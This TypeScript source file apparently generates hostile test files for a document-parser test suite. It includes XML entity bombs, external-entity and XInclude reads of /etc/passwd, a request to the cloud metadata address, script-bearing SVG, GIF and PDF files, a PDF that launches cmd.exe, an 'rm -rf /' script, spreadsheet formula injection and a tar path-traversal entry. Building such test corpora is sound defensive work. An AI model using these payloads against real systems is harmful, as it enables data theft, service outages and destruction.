import { crc32, deflateSync } from 'node:zlib'
import { docx, type HostileFile, megabyte, named, part, times, word, xliff } from './hostile-kit.ts'

/** Marked-up text that grows, nests, fetches or never ends. */
export function markup(): readonly HostileFile[] {
  const laughs = `<!DOCTYPE x [${times(10)
    .map((n) => `<!ENTITY l${n} "${n === 0 ? 'ha' : `&l${n - 1};`.repeat(10)}">`)
    .join('')}]>`
  const doctypes: Readonly<Record<string, string>> = {
    'billion laughs': `${laughs}<x>&l9;</x>`,
    'a long entity many times': `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]><x>${'&a;'.repeat(50_000)}</x>`,
    'a file from outside': '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    'an address': '<!DOCTYPE x [<!ENTITY a SYSTEM "http://169.254.169.254/">]><x>&a;</x>',
    'a parameter entity': '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://x/"> %a;]><x/>',
    'a document type elsewhere': '<!DOCTYPE x SYSTEM "http://x/x.dtd"><x/>',
    'a public one': '<!DOCTYPE x PUBLIC "-//x//x" "http://x/x.dtd"><x/>',
  }
  const shapes: Readonly<Record<string, string>> = {
    'a hundred thousand levels': `${'<x>'.repeat(100_000)}${'</x>'.repeat(100_000)}`,
    'levels without an end': '<x>'.repeat(200_000),
    'comments without an end': `<x>${'<!--'.repeat(200_000)}</x>`,
    'instructions without an end': `<x>${'<?'.repeat(300_000)}</x>`,
    'sections without an end': `<x>${'<![CDATA['.repeat(80_000)}</x>`,
    'tags without an end': `<x ${'<x '.repeat(200_000)}`,
    'quotes without an end': `<x a="${'<'.repeat(400_000)}`,
    'equals without an end': `<x ${'a='.repeat(300_000)}>`,
    'entities without an end': `<x>${'&'.repeat(400_000)}</x>`,
    'numbers that are no signs': `<x>${'&#xFFFFFFFFFF;&#0;&#xD800;'.repeat(20_000)}</x>`,
    'spaces in a tag': `<x${' '.repeat(800_000)}`,
    'a long name': `<${'x'.repeat(800_000)}/>`,
    'many namespaces': `<x ${times(30_000)
      .map((n) => `xmlns:a${n}="u"`)
      .join(' ')}/>`,
    'two roots': '<x/><y/>',
    'half a sign': '<x>\uD800</x>',
    'a sign of no text': '<x>\u0000\uFFFE</x>',
    script: '<x xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></x>',
    'a style sheet': '<?xml-stylesheet href="http://x/x.xsl"?><x/>',
    'an inclusion': '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></x>',
  }
  const wrapped = (kind: string, write: (text: string) => Buffer | string): readonly HostileFile[] => [
    ...named(`${kind}, document type`, Object.fromEntries(Object.entries(doctypes).map(([name, text]) => [name, write(text)]))),
    ...named(`${kind}, shape`, Object.fromEntries(Object.entries(shapes).map(([name, text]) => [name, write(text)]))),
  ]
  return [
    ...wrapped('xml', (text) => `<?xml version="1.0"?>${text}`),
    ...wrapped('xliff', (text) => (text.startsWith('<!') ? text : xliff(text))),
    ...wrapped('word', (text) => docx([part('word/document.xml', word(text))])),
    ...wrapped('svg', (text) => `<svg xmlns="http://www.w3.org/2000/svg">${text}</svg>`),
    ...wrapped('page', (text) => `<!doctype html><html><body>${text}</body></html>`),
    ...wrapped('xml in UTF-16', (text) => Buffer.from(`\uFEFF${text}`, 'utf16le')),
    ...wrapped('xml in another encoding', (text) => Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>${text}`, 'latin1')),
  ]
}

function png(width: number, height: number, depth: number, colours: number, pixels: Buffer): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const length = Buffer.alloc(4)
    length.writeUInt32BE(data.length)
    const body = Buffer.concat([Buffer.from(type), data])
    const sum = Buffer.alloc(4)
    sum.writeUInt32BE(crc32(body))
    return Buffer.concat([length, body, sum])
  }
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.writeUInt8(depth, 8)
  head.writeUInt8(colours, 9)
  const start = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([start, chunk('IHDR', head), chunk('IDAT', deflateSync(pixels)), chunk('IEND', Buffer.alloc(0))])
}

/** Pictures that are larger than they look. */
export function pictures(): readonly HostileFile[] {
  const sides = [0, 1, 2001, 65_535, 0x7fffffff, 0xffffffff]
  const sizes = sides.flatMap((width) => sides.map((height) => [width, height] as const)).filter(([width, height]) => width + height !== 2)
  return [
    ...sizes.map(([width, height]) => ({ name: `picture: ${width} by ${height}`, bytes: png(width, height, 8, 6, Buffer.alloc(64)) })),
    ...[0, 3, 7, 16, 255].map((depth) => ({ name: `picture: depth ${depth}`, bytes: png(10, 10, depth, 6, Buffer.alloc(10)) })),
    ...named('picture', {
      'pixels without an end': png(10, 10, 8, 6, Buffer.alloc(50 * megabyte)),
      'cut off': png(10, 10, 8, 6, Buffer.alloc(410)).subarray(0, 50),
      'a chunk that says four gigabytes': Buffer.concat([
        png(1, 1, 8, 6, Buffer.alloc(5)).subarray(0, 33),
        Buffer.alloc(4, 0xff),
        Buffer.from('IDAT'),
      ]),
      'a JPEG of 65535 by 65535': Buffer.from(
        'ffd8ffe000104a46494600010100000100010000ffc00011 08ffffffff03012200021101031101'.replaceAll(' ', ''),
        'hex',
      ),
      'a GIF with script': Buffer.from('GIF89a/*\u0000\u0000*/=1;alert(1)'),
    }),
  ]
}

/** PDF files that lead their reader astray. */
export function letters(): readonly HostileFile[] {
  const pdf = (body: string, tail = 'trailer<</Root 1 0 R/Size 9>>\nstartxref\n9\n%%EOF'): string => `%PDF-1.7\n${body}\n${tail}`
  const stream = deflateSync(Buffer.alloc(60 * megabyte))
  const packed = Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj<</Type/XRef/Size 9999999/W[1 8 8]/Filter/FlateDecode/Length ${stream.length}>>stream\n`),
    stream,
    Buffer.from('\nendstream endobj\nstartxref\n9\n%%EOF'),
  ])
  return named('pdf', {
    'nothing behind its head': '%PDF-1.7',
    'a place that is itself': pdf('xref\n0 1\n0000000000 65535 f ', 'trailer<</Prev 9/Size 1>>\nstartxref\n9\n%%EOF'),
    'a place far away': pdf('', 'startxref\n99999999999\n%%EOF'),
    'a place before it': pdf('', 'startxref\n-5\n%%EOF'),
    'a billion objects': pdf('xref\n0 999999999\n0000000000 65535 f '),
    'lists in lists': pdf(`1 0 obj ${'['.repeat(200_000)}`),
    'tables in tables': pdf(`1 0 obj ${'<<'.repeat(200_000)}`),
    'a text without an end': pdf(`1 0 obj (${'('.repeat(300_000)}`),
    'a number without an end': pdf(`1 0 obj ${'9'.repeat(400_000)}`),
    'an object that is itself': pdf('1 0 obj 1 0 R endobj'),
    'a stream that unpacks to 60 MB': packed,
    'filters on filters': pdf(`1 0 obj<</Length 4/Filter[${'/FlateDecode'.repeat(20_000)}]>>stream\nxxxx\nendstream endobj`),
    'script on opening': pdf('1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj'),
    'a program on opening': pdf('1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj'),
    'a form that sends': pdf('1 0 obj<</Type/Catalog/AcroForm<</XFA(<x/>)>>>>endobj'),
    'ends of file': `%PDF-1.7\n${'%%EOF\n'.repeat(100_000)}`,
    'starts of places': `%PDF-1.7\n${'startxref\n9\n'.repeat(60_000)}`,
    'a range of signature over nothing': pdf('1 0 obj<</Type/Sig/ByteRange[0 0 0 0]/Contents<00>>>endobj'),
    'a range beyond it': pdf('1 0 obj<</Type/Sig/ByteRange[0 9999999999 9999999999 9]/Contents<00>>>endobj'),
  })
}

/** Programs and pages under another name. */
export function disguises(): readonly HostileFile[] {
  const heads: Readonly<Record<string, Buffer>> = {
    'a Windows program': Buffer.from('MZ\u0090\u0000\u0003\u0000\u0000\u0000', 'latin1'),
    'a Linux program': Buffer.from('\u007fELF\u0002\u0001\u0001\u0000', 'latin1'),
    'a Mac program': Buffer.from('cafebabe', 'hex'),
    'a script of the shell': Buffer.from('#!/bin/sh\nrm -rf /\n'),
    'a page': Buffer.from('<html><script>alert(1)</script></html>'),
    'a page with space before it': Buffer.from(`${' '.repeat(300)}<!doctype html><script>alert(1)</script>`),
    'a drawing': Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    'an old Word file': Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    'rich text': Buffer.from('{\\rtf1{\\object\\objocx}}'),
    'a RAR archive': Buffer.from('Rar!\u001a\u0007\u0001\u0000', 'latin1'),
    'a 7z archive': Buffer.from('377abcaf271c', 'hex'),
    'a disk image': Buffer.concat([Buffer.alloc(32_769), Buffer.from('CD001')]),
    'a shortcut': Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
    'a help file': Buffer.from('ITSF\u0003\u0000\u0000\u0000', 'latin1'),
    'a web archive': Buffer.from('MIME-Version: 1.0\u0000\nContent-Type: multipart/related'),
    PostScript: Buffer.from('%!PS-Adobe-3.0\n(/etc/passwd)(r)file\u0000'),
  }
  const archive = docx([part('word/document.xml', word(''))])
  return Object.entries(heads).flatMap(([name, head]) => [
    { name: `disguise: ${name}`, bytes: head },
    { name: `disguise: ${name} before an archive`, bytes: Buffer.concat([head, archive]) },
    { name: `disguise: ${name} in a PDF`, bytes: Buffer.concat([Buffer.from('%PDF-1.7\n'), head]) },
    { name: `disguise: ${name} in a picture`, bytes: Buffer.concat([png(1, 1, 8, 6, Buffer.alloc(5)), head]).subarray(0, 60) },
  ])
}

/** Text, tables and signed documents that are none. */
export function words(): readonly HostileFile[] {
  const deep = (open: string, close: string): string => open.repeat(200_000) + close.repeat(200_000)
  return named('text', {
    'lists in lists': deep('[', ']'),
    'tables in tables': `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`,
    'a number without an end': `{"a":${'9'.repeat(900_000)}}`,
    'a name of every object': '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
    'a name twice': '{"v":1,"v":2}',
    'a text that does not end': `{"a":"${'\\u0000'.repeat(100_000)}`,
    'signs that are none': Buffer.from([0xff, 0xfe, 0xfd, 0xc0, 0x80, 0xed, 0xa0, 0x80]),
    'a line without an end': 'a;'.repeat(400_000),
    'quotes without an end': `"${'""'.repeat(400_000)}`,
    formulas: "=cmd|' /C calc'!A0\n@SUM(1+1)*cmd|x\n+1\n-1\n\t=1",
    'many lines': '\n'.repeat(900_000),
    spaces: ' '.repeat(900_000),
    nothing: '',
    zeros: Buffer.alloc(megabyte),
    'a tape archive that leads away': Buffer.concat([
      Buffer.from('../../../etc/passwd'.padEnd(100, '\u0000')),
      Buffer.alloc(412),
      Buffer.alloc(1024),
    ]),
    'a sealed file of nothing': 'age-encryption.org/v1\n-> X25519 x\n',
    'a signature of nothing': '{"payload":"","signatures":[]}',
    'a certificate of nothing': '-----BEGIN CERTIFICATE-----\n-----END CERTIFICATE-----\n',
  })
}
